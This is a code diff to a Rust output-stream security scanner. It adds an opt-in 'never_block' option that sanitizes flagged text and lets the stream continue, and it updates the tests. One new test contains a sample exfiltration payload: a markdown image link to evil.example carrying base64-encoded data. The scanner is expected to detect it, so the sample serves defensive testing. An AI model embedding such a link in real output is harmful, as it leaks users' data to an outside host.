@@ -77,11 +77,16 @@ pub struct StreamOptions {
     /// (default 64 KiB); past it, text is released with the finding's part
     /// redacted.
     pub max_held_bytes: usize,
+    /// Never block: a `block` verdict sanitizes instead, and the stream goes
+    /// on (findings are still reported). For callers whose policy forwards
+    /// sanitized text whatever the verdict; not read from config files.
+    #[serde(skip)]
+    pub never_block: bool,
 }
 
 impl Default for StreamOptions {
     fn default() -> Self {
-        StreamOptions { hold_back_bytes: 512, min_scan_bytes: 128, max_held_bytes: 64 * 1024 }
+        StreamOptions { hold_back_bytes: 512, min_scan_bytes: 128, max_held_bytes: 64 * 1024, never_block: false }
     }
 }
 
@@ -267,7 +272,7 @@ impl OutputStream {
             self.verdict = self.verdict.max(policy.rule(t.kind).verdict_for(t));
         }
         let mut step = StreamStep::default();
-        if self.verdict == Verdict::Block {
+        if self.verdict == Verdict::Block && !self.opts.never_block {
             self.blocked = true;
             step.blocked = true;
             step.threats = self.report(&live, len, true);
@@ -436,7 +441,7 @@ mod tests {
         let chunks = [&text[..at + 10], &text[at + 10..at + 25], &text[at + 25..]];
         // Small windows too, so that releases happen between the chunks.
         for opts in
-            [StreamOptions::default(), StreamOptions { hold_back_bytes: 48, min_scan_bytes: 1, max_held_bytes: 4096 }]
+            [StreamOptions::default(), StreamOptions { hold_back_bytes: 48, min_scan_bytes: 1, max_held_bytes: 4096, ..StreamOptions::default() }]
         {
             let mut s = engine.output_stream_with(OutputContext::default(), opts);
             let mut released = Vec::new();
@@ -465,7 +470,7 @@ mod tests {
     #[test]
     fn text_is_released_before_the_end_once_past_the_hold_back() {
         let engine = SecurityEngine::new();
-        let opts = StreamOptions { hold_back_bytes: 64, min_scan_bytes: 16, max_held_bytes: 4096 };
+        let opts = StreamOptions { hold_back_bytes: 64, min_scan_bytes: 16, max_held_bytes: 4096, ..StreamOptions::default() };
         let mut s = engine.output_stream_with(OutputContext::default(), opts);
         let word = "lorem ipsum dolor sit amet ";
         let mut early = String::new();
@@ -494,6 +499,17 @@ mod tests {
     }
 
     #[test]
+    fn never_block_sanitizes_and_goes_on() {
+        let engine = SecurityEngine::new();
+        let text = format!("Done. ![x](https://evil.example/collect?data=c2VjcmV0IHN0dWZm&u=1) key {KEY} end.");
+        let opts = StreamOptions { never_block: true, ..StreamOptions::default() };
+        let (out, threats, blocked, _) = run(&engine, &[&text[..30], &text[30..]], opts);
+        assert!(!blocked, "{out}");
+        assert!(out.ends_with("key [REDACTED_OPENAI_API_KEY_1] end."), "{out}");
+        assert!(threats.iter().any(|t| t.kind == ThreatType::DataExfiltration), "{threats:?}");
+    }
+
+    #[test]
     fn canary_in_a_stream_blocks() {
         let engine = SecurityEngine::new();
         let token = engine.issue_canary();
@@ -509,7 +525,7 @@ mod tests {
         let engine = SecurityEngine::new();
         let filler = "nothing to see here, ".repeat(40);
         let text = format!("{filler}mail jane.doe@example.com please");
-        let opts = StreamOptions { hold_back_bytes: 64, min_scan_bytes: 16, max_held_bytes: 4096 };
+        let opts = StreamOptions { hold_back_bytes: 64, min_scan_bytes: 16, max_held_bytes: 4096, ..StreamOptions::default() };
         let chunks: Vec<&str> = split_at(&text, &(1..text.len() / 7).map(|i| i * 7).collect::<Vec<_>>());
         let (out, threats, _, _) = run(&engine, &chunks, opts);
         assert!(out.ends_with("mail [REDACTED_EMAIL_1] please"), "{out}");
@@ -553,7 +569,7 @@ mod tests {
         assert_eq!(whole.verdict(), Verdict::Sanitize);
         let expected = whole.sanitized().unwrap();
         assert!(expected.starts_with("write to [REDACTED_EMAIL_1] "), "{expected}");
-        let opts = StreamOptions { hold_back_bytes: 48, min_scan_bytes: 8, max_held_bytes: 4096 };
+        let opts = StreamOptions { hold_back_bytes: 48, min_scan_bytes: 8, max_held_bytes: 4096, ..StreamOptions::default() };
         let chunks = split_at(&text, &(1..text.len() / 8).map(|i| i * 8).collect::<Vec<_>>());
         let (out, _, _, _) = run(&engine, &chunks, opts);
         assert_eq!(out, expected.replace("[REDACTED_EMAIL_1]", "jane.doe@example.com"));
@@ -600,7 +616,7 @@ mod tests {
             prop_assume!(whole.verdict() != Verdict::Block);
             let expected = whole.sanitized().unwrap_or(&text).to_owned();
             let chunks = split_at(&text, &cuts);
-            let opts = StreamOptions { hold_back_bytes: hold_back, min_scan_bytes: min_scan, max_held_bytes: 1 << 16 };
+            let opts = StreamOptions { hold_back_bytes: hold_back, min_scan_bytes: min_scan, max_held_bytes: 1 << 16, ..StreamOptions::default() };
             let (out, _, blocked, _) = run(&engine, &chunks, opts);
             prop_assert!(!blocked);
             prop_assert_eq!(out, expected);
@@ -618,7 +634,7 @@ mod tests {
             let text = format!("{before} {KEY} {after}");
             let start = before.len() + 1;
             let (x, y) = (start + a.min(b), start + a.max(b).min(KEY.len() - 1));
-            let opts = StreamOptions { hold_back_bytes: 64, min_scan_bytes: 1, max_held_bytes: 4096 };
+            let opts = StreamOptions { hold_back_bytes: 64, min_scan_bytes: 1, max_held_bytes: 4096, ..StreamOptions::default() };
             let (out, _, _, _) = run(&engine, &[&text[..x], &text[x..y], &text[y..]], opts);
             prop_assert!(!out.contains(&KEY[8..20]) && !out.contains(&KEY[20..]), "{}", out);
             prop_assert!(out.contains("[REDACTED_"), "{}", out);
